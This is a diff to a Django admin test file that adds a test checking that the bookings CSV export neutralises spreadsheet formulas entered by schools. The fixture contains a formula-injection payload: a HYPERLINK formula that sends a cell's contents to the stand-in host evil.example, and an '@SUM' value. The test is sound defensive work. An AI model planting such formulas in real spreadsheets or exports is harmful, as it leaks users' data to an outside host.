@@ -1,5 +1,6 @@
 """Staff admin: coordinators see and act on their own techniekhuis's bookings only; CSV/XLSX export."""
 
+import csv
 import io
 
 import openpyxl
@@ -374,3 +375,13 @@ def test_coordinator_gets_404_for_other_techniekhuis_object_views(coordinator_cl
 def test_superuser_opens_every_history_page(admin_client, houses, model):
     other = _objects_at(houses[1], "CBS Zuiderzon")[model]
     assert admin_client.get(f"/admin/bookings/{model}/history/{other.pk}/").status_code == 200
+
+
+def test_csv_export_neutralises_formulas_in_what_schools_typed(admin_client, houses):
+    booking_at(houses[0], "@SUM(1+1)", contact_name='=HYPERLINK("https://evil.example/?"&A1,"klik")')
+
+    response = admin_client.get(INDEX, {"export": "csv"})
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["Contactpersoon"] == '\'=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    assert "'@SUM(1+1)" in rows[0].values()
